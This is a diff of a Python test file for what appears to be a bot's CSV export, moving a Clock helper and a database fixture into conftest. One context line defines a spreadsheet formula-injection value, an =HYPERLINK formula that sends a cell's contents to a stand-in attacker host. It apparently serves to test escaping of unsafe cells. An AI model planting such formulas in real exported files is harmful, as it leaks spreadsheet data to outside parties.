@@ -14,10 +14,10 @@ from datetime import datetime, timedelta, timezone
 import pytest
 
 from bot import cli
-from bot.adapters.db import migrate
 from bot.adapters.db.repository import NewInvitation, Repository
 from bot.core.outcome import DECISIONS, Outcome
 from bot.record import RECORD_COLUMNS, TIMELINE_COLUMNS, case_record, record_csv, safe_cell, timeline_csv
+from tests.conftest import Clock
 
 # Summer: UK time is BST (+01:00), so a UTC time shown unconverted would be caught.
 T0 = datetime(2026, 6, 10, 8, 30, tzinfo=timezone.utc)
@@ -28,27 +28,9 @@ NASTY_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"click") on leave, "annu
 CHAIR = "aad-chair"
 
 
-class Clock:
-    def __init__(self, now: datetime = T0):
-        self.now = now
-
-    def __call__(self) -> datetime:
-        return self.now
-
-    def advance(self, **kw) -> datetime:
-        self.now += timedelta(**kw)
-        return self.now
-
-
-@pytest.fixture
-def url(db_url):
-    migrate.upgrade(db_url)
-    return db_url
-
-
 @pytest.fixture
 def clock():
-    return Clock()
+    return Clock(T0)
 
 
 @pytest.fixture
